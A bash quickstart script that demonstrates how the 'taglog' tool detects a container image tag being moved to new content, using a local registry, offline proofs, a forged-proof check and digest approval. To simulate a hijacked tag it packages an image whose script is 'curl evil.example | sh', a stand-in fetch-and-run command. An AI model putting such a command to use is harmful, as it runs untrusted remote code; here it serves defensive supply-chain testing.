#!/usr/bin/env bash
# Demonstrates on this machine how taglog detects a moved tag, with a real registry and real images.
#
#   deploy/quickstart.sh [--once] [--programs DIR | --prebuilt | --from-source]
#
#   --once          stops everything at the end; otherwise the log is left running, and the script prints its address
#   --programs DIR  takes taglog and taglog-server from DIR instead of building them
#   --prebuilt, --from-source   which RocksDB they are built with: see deploy/prepare.sh
set -euo pipefail
cd "$(dirname "$0")/.."
. deploy/prepare.sh

usage="usage: deploy/quickstart.sh [--once] [--programs DIR | --prebuilt | --from-source]"
once='' bin='' rocksdb=()
while [ $# -gt 0 ]; do
  case "$1" in
    --once) once=1 ;;
    --programs)
      [ -x "${2:-}/taglog" ] && [ -x "$2/taglog-server" ] || fail "--programs wants a directory with taglog and taglog-server; $usage"
      bin="$(cd "$2" && pwd)"
      shift
      ;;
    --prebuilt | --from-source) rocksdb=("$1") ;;
    *) fail "$usage" ;;
  esac
  shift
done

if [ -n "$bin" ]; then
  install_tools
else
  prepare "${rocksdb[@]}"
  say "Building taglog and taglog-server (minutes the first time)"
  # The same profile as for the tests, so that dependencies are compiled once.
  cargo build --locked -p taglog -p taglog-server
  bin="$CARGO_TARGET_DIR/debug"
fi

if [ -n "$once" ]; then
  home="$(mktemp -d)"
else
  home="${XDG_STATE_HOME:-$HOME/.local/state}/taglog-quickstart"
fi

# Stops the server that an earlier run of this script left behind, and nothing else.
stop_server() {
  local pid
  [ -f "$home/server.pid" ] || return 0
  pid="$(cat "$home/server.pid")"
  if tr '\0' ' ' 2>/dev/null <"/proc/$pid/cmdline" | grep -q "taglog-server run --data $home/log"; then
    kill "$pid" && while kill -0 "$pid" 2>/dev/null; do sleep 0.1; done
  fi
  rm -f "$home/server.pid"
}

registry_pid=
finish() {
  status=$?
  [ -z "$registry_pid" ] || kill "$registry_pid" 2>/dev/null || true
  if [ -n "$once" ] || [ "$status" -ne 0 ]; then
    stop_server
  fi
  rm -rf "$home/play"
  [ -z "$once" ] || rm -rf "$home"
}

stop_server
rm -rf "$home"
mkdir -p "$home/play"
trap finish EXIT

# wait_for WHAT COMMAND...: waits until the command succeeds, for 30 seconds at most.
wait_for() {
  local what="$1" end=$((SECONDS + 30))
  shift
  until "$@" >/dev/null 2>&1; do
    [ "$SECONDS" -lt "$end" ] || fail "$what did not start"
    sleep 0.1
  done
}

# show COMMAND...: prints a command as a user would type it, then runs it.
show() { printf '\033[36m$ %s\033[0m\n' "${*/#$bin\//}"; "$@"; }

# expect CODE COMMAND...: shows a command that must end with this exit code.
expect() {
  local want="$1" got=0
  shift
  show "$@" || got=$?
  [ "$got" -eq "$want" ] || fail "the last command should have ended with exit code $want, not $got"
  printf '(exit code %s)\n' "$got"
}

say "A real registry on loopback"
start_registry() {
  port=$((20000 + RANDOM % 20000))
  cat >"$home/play/registry.yml" <<YAML
version: 0.1
log: {level: error}
storage: {filesystem: {rootdirectory: $home/play/registry}}
http: {addr: 127.0.0.1:$port}
YAML
  docker-registry serve "$home/play/registry.yml" >"$home/play/registry.log" 2>&1 &
  registry_pid=$!
  wait_for "the registry" curl -sf "http://127.0.0.1:$port/v2/"
  # Another program's port may answer too, so check that this registry runs.
  kill -0 "$registry_pid" 2>/dev/null
}
start_registry || start_registry || fail "the registry does not start: $(cat "$home/play/registry.log")"
image="127.0.0.1:$port/martes13/harmless:1.0"
echo "docker-registry serves 127.0.0.1:$port"

# put_blob DIR FILE: moves a file into an OCI image layout, and prints its digest.
put_blob() {
  local digest
  digest="$(sha256sum "$2" | cut -d' ' -f1)"
  mkdir -p "$1/blobs/sha256"
  mv "$2" "$1/blobs/sha256/$digest"
  echo "$digest"
}

# push CONTENT: builds an image with one file of this content, and pushes it as harmless:1.0.
push() {
  local dir="$home/play/image" layer diff config manifest size
  rm -rf "$dir" && mkdir -p "$dir/root"
  printf '#!/bin/sh\n%s\n' "$1" >"$dir/root/run.sh"
  tar --sort=name --mtime=@0 --owner=0 --group=0 -C "$dir/root" -cf "$dir/layer.tar" run.sh
  diff="$(sha256sum "$dir/layer.tar" | cut -d' ' -f1)"
  size="$(stat -c %s "$dir/layer.tar")"
  layer="$(put_blob "$dir" "$dir/layer.tar")"
  printf '{"architecture":"amd64","os":"linux","config":{"Cmd":["/run.sh"]},"rootfs":{"type":"layers","diff_ids":["sha256:%s"]}}' "$diff" >"$dir/c"
  local config_size
  config_size="$(stat -c %s "$dir/c")"
  config="$(put_blob "$dir" "$dir/c")"
  printf '{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":{"mediaType":"application/vnd.oci.image.config.v1+json","digest":"sha256:%s","size":%s},"layers":[{"mediaType":"application/vnd.oci.image.layer.v1.tar","digest":"sha256:%s","size":%s}]}' \
    "$config" "$config_size" "$layer" "$size" >"$dir/m"
  local manifest_size
  manifest_size="$(stat -c %s "$dir/m")"
  manifest="$(put_blob "$dir" "$dir/m")"
  printf '{"imageLayoutVersion":"1.0.0"}' >"$dir/oci-layout"
  printf '{"schemaVersion":2,"manifests":[{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"sha256:%s","size":%s}]}' \
    "$manifest" "$manifest_size" >"$dir/index.json"
  show skopeo copy --quiet --dest-tls-verify=false "oci:$dir" "docker://$image"
}

say "A log, and a witness that it accepts"
export TAGLOG_KEY="$home/witness.key" TAGLOG_TRUST="$home/trust" TAGLOG_STATE="$home/state"
vkey="$(show "$bin/taglog-server" init "$home/log" --origin quickstart.example/taglog 2>/dev/null | tail -1)"
witness="$("$bin/taglog" keygen quickstart.example/witness 2>/dev/null)"
echo "log     $vkey"
echo "witness $witness"
nohup "$bin/taglog-server" run --data "$home/log" --listen 127.0.0.1:0 --batch-interval-ms 200 --witness "$witness" \
  >"$home/server.out" 2>"$home/server.err" </dev/null &
echo $! >"$home/server.pid"
wait_for "the log" grep -q ' at http' "$home/server.out"
address="$(sed -n 's/.* at \(http.*\)/\1/p' "$home/server.out")"
wait_for "the log" curl -sf "$address/readyz"
show "$bin/taglog" init "$address" --yes --vkey "$vkey"

say "Day 1: harmless:1.0 is published, and a witness reports what it sees"
push 'echo "I am harmless"'
show "$bin/taglog" observe "$image"

say "Before a deploy: the tag has only ever pointed to this digest, and is new"
expect 0 "$bin/taglog" verify "$image"
show "$bin/taglog" verify --print-digest "$image"

say "Day 2: whoever holds the account pushes different content under the same tag"
push 'curl evil.example | sh'

say "No witness has reported it yet, and it is detected already: no witness has ever seen this digest"
expect 1 "$bin/taglog" verify "$image"

say "The witness resolves the tag again; from now on the move is in the log"
show "$bin/taglog" observe "$image"
expect 1 "$bin/taglog" verify --save "$home/play/harmless.tagproof" "$image"
show "$bin/taglog" history "$image"

say "The proof needs neither network nor trust in the log: anyone can check it"
expect 1 env -u TAGLOG_LOG "$bin/taglog" verify --offline "$home/play/harmless.tagproof"

say "A forged copy of the proof, in which the second digest replaces the first"
first="$("$bin/taglog" history "$image" | sed -n '2s/.*sha256:\([0-9a-f]*\).*/\1/p')"
second="$("$bin/taglog" history "$image" | sed -n '3s/.*sha256:\([0-9a-f]*\).*/\1/p')"
[ -n "$first" ] && [ -n "$second" ] && [ "$first" != "$second" ] || fail "the history does not show two digests"
sed "/beside-proofs/d; s/$first/$second/g" "$home/play/harmless.tagproof" >"$home/play/tampered.tagproof"
expect 4 "$bin/taglog" verify --offline "$home/play/tampered.tagproof"

say "A Compose file names the image; its check fails, and says where"
cat >"$home/play/compose.yaml" <<YAML
services:
  job:
    image: $image
YAML
cd "$home/play"
expect 1 "$bin/taglog" verify -f compose.yaml

say "If a person has reviewed the new content and wants it, exactly that digest passes, and the lock file says why"
expect 0 "$bin/taglog" approve "$image@sha256:$second" --reason "reviewed: the new release, ticket 42" --by you
cat taglog.lock
expect 0 "$bin/taglog" verify -f compose.yaml
expect 1 "$bin/taglog" verify "$image@sha256:$first"
expect 0 "$bin/taglog" pin -f compose.yaml
cat compose.yaml
cd "$OLDPWD"

say "Done: the retag was detected, is in the log, and can be proved to anyone"
if [ -z "$once" ]; then
  echo "The log still runs: $address (process $(cat "$home/server.pid")). Try"
  echo "  export TAGLOG_TRUST=$home/trust TAGLOG_STATE=$home/state"
  echo "  $bin/taglog history $image"
  echo "Stop it with: kill $(cat "$home/server.pid"). Its data is in $home."
fi
